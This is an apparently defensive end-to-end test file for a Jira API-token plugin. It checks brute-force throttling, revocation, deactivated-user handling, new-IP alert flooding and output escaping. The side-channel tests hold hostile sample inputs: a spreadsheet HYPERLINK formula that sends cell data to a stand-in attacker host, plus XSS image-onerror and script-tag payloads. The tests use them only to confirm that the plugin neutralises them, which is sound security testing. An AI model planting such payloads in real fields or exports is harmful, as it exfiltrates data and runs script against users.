// Attack review (2026-12-04): incident response, lifecycle and side channels (docs/api.md "Incident
// response", "Tokens never lock anyone out"; docs/jobs-and-mail.md). Each test is one attack;
// a test that fails is a finding, a test that passes a defence confirmed.
import { expect } from 'chai';
import { formatToken } from '../../../plugin/token/TokenFormat';
import { forEachDatabase } from '../../support/databases';
import { API, startE2e, stopAndCheckLeaks, type E2eEnv } from './support/e2eHost';
import { heldRequest } from './support/heldRequest';

const PLUGIN = 'de.resolution.apitokenauth';
const REVOKE = `${API}/tokens/revoke`;
const API_TOKENS = '/rest/api-tokens/latest/';

forEachDatabase('Lifecycle, lockout and side channels (attack review)', (kind) => {
  let e2e: E2eEnv;
  let ipCounter = 0;
  /** A client IP of its own for each use (the test client is the trusted proxy). */
  const freshIp = () => `203.0.113.${++ipCounter}`;

  before(async function () {
    this.timeout(60_000);
    e2e = await startE2e('jira', kind, { HOSTSIM_SYSPROPS: 'hostsim.trusted.proxies=127.0.0.1' });
  });
  after(async function () {
    this.timeout(30_000);
    await stopAndCheckLeaks(e2e);
  });

  const from = (ip: string, headers: Record<string, string> = {}) => ({ 'X-Forwarded-For': ip, ...headers });
  const myselfAs = (token: string, ip: string) => e2e.req('/rest/api/2/myself', { bearer: token, headers: from(ip) });
  const runJob = async (job: string): Promise<void> => {
    const res = await e2e.as('admin', `/rest/hostsim/1.0/jobs/${encodeURIComponent(`${PLUGIN}:${job}`)}/run`, { method: 'POST' });
    expect(res.status, res.text).to.equal(200);
  };
  const outboxTo = async (address: string) =>
    ((await e2e.as('admin', '/rest/hostsim/1.0/mail')).json as Array<{ to: string; subject: string; text: string; html: string | null }>).filter((m) => m.to === address);
  const publicIdOf = (t: string) => t.slice(7, 19);

  // ---- lockout of other users ----------------------------------------------------------------

  it('should keep a victim\'s valid token working while a stranger floods its public id and the victim\'s IP with wrong secrets', async function () {
    this.timeout(60_000);
    const victim = await e2e.createToken('bob', { tokenDescription: 'victim CI' });
    const sharedNatIp = freshIp();
    // 150 guesses against the victim's public id, from the victim's own (NAT) IP and from others.
    let throttled = 0;
    for (let i = 0; i < 150; i++) {
      const guess = formatToken(publicIdOf(victim.plainTextToken), `${String(i).padStart(4, '0')}${'G'.repeat(24)}`);
      const status = (await myselfAs(guess, i % 2 === 0 ? sharedNatIp : freshIp())).status;
      expect([401, 429], `guess ${i}`).to.include(status);
      if (status === 429) throttled++;
    }
    expect(throttled, 'the public id is throttled').to.be.greaterThan(0);
    // The valid token still works, from the throttled IP and from another one.
    expect((await myselfAs(victim.plainTextToken, sharedNatIp)).status).to.equal(200);
    expect((await myselfAs(victim.plainTextToken, freshIp())).status).to.equal(200);
    expect((await e2e.req('/rest/api/2/myself', { auth: ['bob', victim.plainTextToken], headers: from(sharedNatIp) })).status).to.equal(200);
  });

  it('should never put a user into CAPTCHA state through wrong tokens in Basic auth (user name known)', async function () {
    this.timeout(20_000);
    const ip = freshIp();
    for (let i = 0; i < 5; i++) {
      const wrong = formatToken('AAAAAAAAAAAA', `${i}${'W'.repeat(27)}`);
      expect((await e2e.req('/rest/api/2/myself', { auth: ['carol', wrong], headers: from(ip) })).status).to.equal(401);
    }
    // carol's password still works (no CAPTCHA 403), and so does a token of hers.
    const res = await e2e.req('/rest/api/2/myself', { auth: ['carol', e2e.users.carol.password], headers: from(freshIp()) });
    expect(res.status).to.equal(200);
    expect(res.headers.get('x-seraph-loginreason')).to.not.equal('AUTHENTICATION_DENIED');
  });

  it('should keep the revocation throttle and the failed-token throttle apart (neither locks the other out)', async function () {
    this.timeout(30_000);
    const token = await e2e.createToken('alice', { tokenDescription: 'throttle apart' });
    const ip = freshIp();
    for (let i = 0; i < 11; i++) await e2e.req(REVOKE, { method: 'POST', body: { tokens: ['junk'] }, headers: from(ip) });
    expect((await e2e.req(REVOKE, { method: 'POST', body: { tokens: ['junk'] }, headers: from(ip) })).status).to.equal(429);
    // A revocation-throttled client still signs in with its valid token.
    expect((await myselfAs(token.plainTextToken, ip)).status).to.equal(200);
    // A client throttled by the filter (101 wrong tokens) still may revoke.
    const other = freshIp();
    for (let i = 0; i < 101; i++) await myselfAs(formatToken(`Q${String(i).padStart(11, '0')}`, 'B'.repeat(28)), other);
    expect((await myselfAs(formatToken('QQQQQQQQQQQQ', 'B'.repeat(28)), other)).status).to.equal(429);
    expect((await e2e.req(REVOKE, { method: 'POST', body: { tokens: [token.plainTextToken] }, headers: from(other) })).status).to.equal(202);
    expect((await myselfAs(token.plainTextToken, freshIp())).status).to.equal(401);
  });

  // ---- a revoked / deactivated token on another path ------------------------------------------

  it('should refuse a publicly revoked token on every scheme and both token APIs, and no longer find it by lookup', async function () {
    this.timeout(20_000);
    const token = await e2e.createToken('alice', { tokenDescription: 'revoked everywhere' });
    expect((await e2e.req(API_TOKENS, { bearer: token.plainTextToken })).status).to.equal(200);
    expect((await e2e.req(REVOKE, { method: 'POST', body: { tokens: [token.plainTextToken] }, headers: from(freshIp()) })).status).to.equal(202);
    const attempts = [
      e2e.req('/rest/api/2/myself', { bearer: token.plainTextToken }),
      e2e.req('/rest/api/2/myself', { auth: ['alice', token.plainTextToken] }),
      e2e.req('/rest/api/2/myself', { auth: [e2e.users.alice.email, token.plainTextToken] }),
      e2e.req(API_TOKENS, { bearer: token.plainTextToken }),
      e2e.req(`${API}/user/token`, { bearer: token.plainTextToken }),
      e2e.req(API_TOKENS, { method: 'POST', bearer: token.plainTextToken, body: { label: 'keep access' } }),
    ];
    for (const res of await Promise.all(attempts)) expect(res.status, res.text).to.equal(401);
    const lookup = await e2e.as('admin', `${API}/admin/tokens/lookup`, { method: 'POST', body: { publicId: publicIdOf(token.plainTextToken) } });
    expect(lookup.status).to.equal(404);
  });

  it('should refuse a change whose body arrives after the token was revoked through the public revocation API', async function () {
    this.timeout(20_000);
    const stolen = await e2e.createToken('alice', { tokenDescription: 'held body thief' });
    const pending = await heldRequest(e2e.host.baseUrl, API_TOKENS, stolen.plainTextToken, { label: 'outlives the revocation' });
    expect((await e2e.req(REVOKE, { method: 'POST', body: { tokens: [stolen.plainTextToken] }, headers: from(freshIp()) })).status).to.equal(202);
    const answer = await pending.finish();
    expect(answer.status).to.equal(401);
    const labels = ((await e2e.as('alice', API_TOKENS)).json as Array<{ label: string }>).map((t) => t.label);
    expect(labels).to.not.include('outlives the revocation');
  });

  it('should refuse the tokens of a deactivated user at once and of a user taken out of tokenUserGroups', async function () {
    this.timeout(30_000);
    const token = await e2e.createToken('carol', { tokenDescription: 'deactivated' });
    expect((await e2e.req(API_TOKENS, { bearer: token.plainTextToken })).status).to.equal(200);
    expect((await e2e.as('admin', '/rest/hostsim/1.0/users/carol/active', { method: 'PUT', body: { active: false } })).status).to.equal(200);
    try {
      expect((await e2e.req(API_TOKENS, { bearer: token.plainTextToken })).status).to.equal(401);
      expect((await e2e.req('/rest/api/2/myself', { auth: [e2e.users.carol.email, token.plainTextToken] })).status).to.equal(401);
    } finally {
      expect((await e2e.as('admin', '/rest/hostsim/1.0/users/carol/active', { method: 'PUT', body: { active: true } })).status).to.equal(200);
    }
    // tokenUserGroups: the manager is allowed through token-managers; removed from it, refused at once.
    const managerToken = await e2e.createToken('manager', { tokenDescription: 'group removal' });
    expect((await e2e.as('admin', `${API}/admin/settings`, { method: 'PUT', body: { tokenUserGroups: ['token-managers'] } })).status).to.equal(200);
    try {
      expect((await e2e.req('/rest/api/2/myself', { bearer: managerToken.plainTextToken })).status).to.equal(200);
      await e2e.host.runtime.users.removeUserFromGroup('manager', 'token-managers');
      expect((await e2e.req('/rest/api/2/myself', { bearer: managerToken.plainTextToken })).status).to.equal(401);
      expect((await e2e.req(API_TOKENS, { bearer: managerToken.plainTextToken })).status).to.equal(401);
    } finally {
      await e2e.host.runtime.users.addUserToGroup('manager', 'token-managers');
      expect((await e2e.as('admin', `${API}/admin/settings`, { method: 'PUT', body: { tokenUserGroups: [] } })).status).to.equal(200);
    }
  });

  // ---- new-IP alerts ---------------------------------------------------------------------------

  it('should not let the holder of a token flood its owner with new-IP mails by cycling through addresses', async function () {
    this.timeout(120_000);
    const owner = e2e.users.bob;
    const token = await e2e.createToken('bob', { tokenDescription: 'flooded' });
    // Three rounds of 50 fresh addresses (what one IPv6 /64 hands out without limit), a drain after each.
    for (let round = 0; round < 3; round++) {
      for (let i = 0; i < 50; i++) expect((await myselfAs(token.plainTextToken, `2001:db8:${round}::${(i + 1).toString(16)}`)).status).to.equal(200);
      await runJob('new-ip-alert-job');
    }
    const mails = (await outboxTo(owner.email)).filter((m) => m.subject.includes('"flooded"')).length;
    // 149 before the fix (one mail per address). Now one mail names the first round's new
    // addresses at once; the next rounds wait for the hour and go out together.
    expect(mails, `${mails} new-IP mails within a minute for one token`).to.equal(1);
  });

  // ---- side channels -----------------------------------------------------------------------------

  it('should escape a description with HTML in the revocation mail, keep secrets out of it, and defuse it in the CSV', async function () {
    this.timeout(30_000);
    const description = '=HYPERLINK("http://evil.example/?"&A1) <img src=x onerror=alert(1)>';
    const token = await e2e.createToken('carol', { tokenDescription: description });
    expect((await e2e.req(REVOKE, { method: 'POST', body: { tokens: [token.plainTextToken] }, headers: from(freshIp()) })).status).to.equal(202);
    let mail: { subject: string; text: string; html: string | null } | undefined;
    for (let i = 0; i < 50 && !mail; i++) {
      mail = (await outboxTo(e2e.users.carol.email)).find((m) => m.subject.includes('HYPERLINK'));
      if (!mail) await new Promise((r) => setTimeout(r, 100));
    }
    expect(mail, 'revocation mail').to.not.equal(undefined);
    expect(mail!.html).to.not.include('<img');
    expect(mail!.subject).to.not.match(/[\r\n]/);
    const secret = token.plainTextToken.slice(20, 48);
    expect(JSON.stringify(mail)).to.not.include(secret);

    const other = await e2e.createToken('carol', { tokenDescription: `${description} kept` });
    const csv = await e2e.as('admin', `${API}/user/tokensByFilter?format=csv&descriptionFilter=${encodeURIComponent('kept')}`);
    expect(csv.status).to.equal(200);
    const line = csv.text.split('\r\n').find((l) => l.startsWith(`${other.id},`));
    expect(line, csv.text).to.not.equal(undefined);
    expect(line).to.include("'=HYPERLINK");
    expect(csv.text).to.not.include(other.plainTextToken.slice(20, 48));
  });

  it('should not show a salt, hash or secret in the lookup answer or any token listing (log, audit and database: stopAndCheckLeaks)', async function () {
    this.timeout(20_000);
    const token = await e2e.createToken('alice', { tokenDescription: 'no secret anywhere' });
    const lookup = await e2e.as('admin', `${API}/admin/tokens/lookup`, { method: 'POST', body: { token: token.plainTextToken } });
    expect(lookup.status).to.equal(200);
    const lists = [lookup.text, (await e2e.as('alice', `${API}/user/token`)).text, (await e2e.as('alice', API_TOKENS)).text,
      (await e2e.as('admin', `${API}/user/tokensByFilter?limit=50`)).text];
    for (const text of lists) {
      expect(text).to.not.match(/"(salt|hash|saltHex|hashHex|secret)"/i);
      expect(text).to.not.include(token.plainTextToken.slice(20, 48));
    }
  });

  it('should send JSON errors that echo client text with X-Content-Type-Options: nosniff', async () => {
    const payload = '<script>alert(1)</script>@example.com';
    const res = await e2e.as('admin', `${API}/user/userKeyByEmail?email=${encodeURIComponent(payload)}`);
    expect(res.status).to.equal(404);
    expect(res.headers.get('content-type')).to.match(/^application\/json/);
    // The seed-compatible message repeats the address as sent; the JSON must not be sniffed as HTML.
    expect(res.headers.get('x-content-type-options')).to.equal('nosniff');
  });
});
